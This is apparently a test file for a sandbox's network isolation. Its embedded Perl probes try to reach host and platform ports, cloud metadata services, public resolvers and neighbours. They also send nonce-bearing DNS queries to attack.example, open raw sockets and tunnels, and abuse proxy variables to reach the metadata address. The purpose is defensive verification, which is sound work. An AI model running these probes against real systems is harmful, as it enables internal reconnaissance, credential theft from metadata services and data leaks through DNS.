/** Attempts to reach anything by a network: the host, its neighbours, name servers, the world. */
import type { Attempt } from "../attempt.ts";

/** `tcp(address, port, text)` connects, says the text and answers what came back; undefined: no connection. */
const sockets = String.raw`
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6 unpack_sockaddr_in6 getaddrinfo getnameinfo IPPROTO_TCP);
sub address_of {
  my ($host, $port) = @_;
  return (PF_INET6, pack_sockaddr_in6($port, inet_pton(AF_INET6, $host))) if $host =~ /:/;
  return (PF_INET, pack_sockaddr_in($port, inet_pton(AF_INET, $host)));
}
sub tcp {
  my ($host, $port, $text) = @_;
  my ($family, $address) = address_of($host, $port);
  socket(my $s, $family, SOCK_STREAM, 0) or return undef;
  return undef unless within(2, sub { connect $s, $address });
  syswrite $s, $text;
  my $answer = '';
  within(2, sub { sysread $s, $answer, 4096; 1 });
  return $answer;
}
sub udp {
  my ($host, $port, $data) = @_;
  my ($family, $address) = address_of($host, $port);
  socket(my $s, $family, SOCK_DGRAM, 0) or return undef;
  return undef unless defined send $s, $data, 0, $address;
  my $answer;
  return within(2, sub { defined recv($s, $answer, 4096, 0) ? $answer : undef });
}
sub question { my ($name) = @_; return pack('n6', 0x4d44, 0x0100, 1, 0, 0, 0) . join('', map { chr(length) . $_ } split /\./, $name) . "\0" . pack('nn', 1, 1) }
my @hosts = split ' ', $ENV{HOST_ADDRESSES};
my @servers = (split(' ', $ENV{DNS_SERVERS}), slurp('/etc/resolv.conf') =~ /^nameserver\s+(\S+)/mg);
`;

function network(name: string, what: string, perl: string): Attempt {
  return { name, kind: "egress", what, perl: sockets + perl, timeoutMs: 60_000 };
}

/** None of them may connect, and nothing of them may arrive. */
export const networkAttempts: readonly Attempt[] = [
  network(
    "interfaces",
    "the sandbox has an interface beside its own loopback",
    String.raw`
for my $line (split /\n/, slurp('/proc/net/dev')) { my ($name) = $line =~ /^\s*(\S+):/ or next; got("has $name") unless $name =~ /^(lo|sit0|ip6tnl0|tunl0|gre0|gretap0|erspan0|ip_vti0|ip6_vti0|ip6gre0)$/ }
for my $line (split /\n/, slurp('/proc/net/route')) { got("has a route: $line") if $line !~ /^Iface/ }
for my $line (split /\n/, slurp('/proc/net/ipv6_route')) { got("has a route: $line") if $line !~ /\slo$/ }`,
  ),
  network(
    "host-loopback",
    "a service on the host's loopback answers",
    String.raw`for my $host ('127.0.0.1', '127.0.0.2', '127.0.1.1', '::1') { my $answer = tcp($host, $ENV{TCP_PORT}, "hello $nonce\n"); if (defined $answer) { got("connected to $host"); print $answer } }`,
  ),
  network(
    "host-addresses",
    "a service on any address of the host answers",
    String.raw`for my $host (@hosts) { my $answer = tcp($host, $ENV{TCP_PORT}, "hello $nonce\n"); if (defined $answer) { got("connected to $host"); print $answer } }`,
  ),
  network(
    "udp",
    "a datagram reaches the host",
    String.raw`for my $host (@hosts) { got("$host answered by UDP") if defined udp($host, $ENV{UDP_PORT}, "hello $nonce") }`,
  ),
  network(
    "platform-ports",
    "the platform's private ports or its database can be reached",
    String.raw`for my $host (@hosts) { for my $port (22, 2375, 5432, 6379, 7000, 7100, 7200, 8080, 11434, 19530) { got("connected to $host:$port") if defined tcp($host, $port, "\n") } }`,
  ),
  network(
    "metadata-address",
    "a cloud's metadata service is reached",
    String.raw`for my $host ('169.254.169.254', '169.254.170.2', '100.100.100.200', '192.0.0.192', 'fd00:ec2::254') { got("connected to $host") if defined tcp($host, 80, "GET /latest/meta-data/?$nonce HTTP/1.0\r\n\r\n") }`,
  ),
  network(
    "public-addresses",
    "an address of the internet is reached",
    String.raw`for my $host ('1.1.1.1', '8.8.8.8', '9.9.9.9') { for my $port (53, 80, 443) { got("connected to $host:$port") if defined tcp($host, $port, "\n") } }`,
  ),
  network(
    "ipv6",
    "anything is reached by IPv6",
    String.raw`for my $host ('2606:4700:4700::1111', '2001:4860:4860::8888', 'ff02::1', 'fe80::1', grep { /:/ } @hosts) { for my $port (443, $ENV{TCP_PORT}) { got("connected to $host") if defined tcp($host, $port, "hello $nonce\n") } got("$host answered by UDP") if defined udp($host, $ENV{UDP_PORT}, "hello $nonce") }`,
  ),
  network(
    "mapped-ipv4",
    "an IPv4 address written as IPv6 is reached",
    String.raw`for my $host (grep { !/:/ } @hosts) { got("connected to ::ffff:$host") if defined tcp("::ffff:$host", $ENV{TCP_PORT}, "hello $nonce\n") }`,
  ),
  network(
    "dns-udp",
    "a name server answers, or hears a name with a message in it",
    String.raw`for my $server (@servers) { got("$server answered by UDP") if defined udp($server, 53, question("$nonce.attack.example")) }`,
  ),
  network(
    "dns-tcp",
    "a name server answers over TCP",
    String.raw`for my $server (@servers) { my $q = question("$nonce.attack.example"); got("$server answered over TCP") if defined tcp($server, 53, pack('n', length $q) . $q) }`,
  ),
  network(
    "names",
    "names beyond localhost are resolved by the system's own way",
    String.raw`
my $own = (POSIX::uname())[1];
for my $name ('example.com', "$nonce.attack.example", 'host.docker.internal', 'gateway.docker.internal', 'metadata.google.internal', 'localhost.localdomain') {
  my ($error, @found) = @{ within(4, sub { [ getaddrinfo($name, '80', { socktype => SOCK_STREAM }) ] }) // ['late'] };
  next if $error || !@found;
  my ($e, $address) = getnameinfo($found[0]{addr}, 1, 2);
  got("$name is $address") unless $address =~ /^127\.|^::1$/;
}`,
  ),
  network(
    "icmp",
    "a ping leaves the sandbox",
    String.raw`
my $echo = pack('CCnnn a8', 8, 0, 0, 1, 1, substr $nonce, 0, 8);
my $sum = 0; $sum += $_ for unpack 'n*', $echo; $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
substr($echo, 2, 2) = pack 'n', ~$sum & 0xffff;
for my $type (SOCK_DGRAM, SOCK_RAW) {
  socket(my $s, PF_INET, $type, 1) or next;
  got('opened a raw ICMP socket') if $type == SOCK_RAW;
  for my $host (grep { !/:/ && !/^127/ } @hosts, '8.8.8.8') { got("sent a ping to $host") if defined send $s, $echo, 0, pack_sockaddr_in(0, inet_aton($host)) }
}`,
  ),
  network(
    "raw-sockets",
    "packets are written by hand",
    String.raw`
for my $protocol (1, 6, 17, 255) { got("opened a raw socket of protocol $protocol") if socket(my $s, PF_INET, SOCK_RAW, $protocol) }
got('opened a raw IPv6 socket') if socket(my $s, PF_INET6, SOCK_RAW, 58);`,
  ),
  network(
    "packet-sockets",
    "frames of a wire are read and written",
    String.raw`for my $type (SOCK_DGRAM, SOCK_RAW) { got('opened a packet socket') if socket(my $s, 17, $type, 0x0300) }`,
  ),
  network(
    "make-interface",
    "an interface, an address or a route is made",
    String.raw`
socket(my $s, PF_INET, SOCK_DGRAM, 0);
my $flags = pack('a16 s x22', 'lo', 0x49);
got('set the flags of lo') if ioctl($s, 0x8914, $flags);
my $address = pack('a16 S n a4 x16', 'lo', AF_INET, 0, inet_aton('169.254.169.254'));
got('gave lo an address') if ioctl($s, 0x8916, $address);
socket(my $n, 16, SOCK_RAW, 0) or do { print "no netlink\n" };
my $info = pack('S S a8', 11, 1, "dummy\0\0\0");
my $body = pack('C C S i I I', 0, 0, 0, 0, 0, 0) . pack('S S', 4 + length $info, 18) . $info;
my $message = pack('I S S I I', 16 + length $body, 16, 5 | 0x600, 1, 0) . $body;
if ($n && defined send $n, $message, 0, pack('S S I I', 16, 0, 0, 0)) {
  my $reply; recv $n, $reply, 4096, 0;
  my $error = unpack 'x16 i', $reply;
  got('made an interface') if unpack('x4 S', $reply) == 2 && $error == 0;
}`,
  ),
  network(
    "tunnel-device",
    "a tunnel of the sandbox's own is opened",
    String.raw`got('opened /dev/net/tun') if device('/dev/net/tun', O_RDWR);`,
  ),
  network(
    "broadcast",
    "neighbours hear a broadcast or multicast",
    String.raw`
socket(my $s, PF_INET, SOCK_DGRAM, 0);
setsockopt($s, SOL_SOCKET, SO_BROADCAST, pack 'i', 1);
for my $to (['255.255.255.255', 9], ['224.0.0.251', 5353], ['239.255.255.250', 1900]) { got("sent to $to->[0]") if defined send $s, "hello $nonce", 0, pack_sockaddr_in($to->[1], inet_aton($to->[0])) }`,
  ),
  network(
    "proxy-variables",
    "a proxy of the host that its variables name is used",
    String.raw`
for my $key (grep { /proxy$/i } keys %ENV) {
  my ($host, $port) = $ENV{$key} =~ m{//(?:[^@/]*@)?([\d.]+):(\d+)} or next;
  my $answer = tcp($host, $port, "CONNECT 169.254.169.254:80 HTTP/1.1\r\nhost: 169.254.169.254\r\n\r\n");
  got("$key led to $host:$port: $answer") if ($answer // '') =~ m{^HTTP/1\.\d 200};
}`,
  ),
];
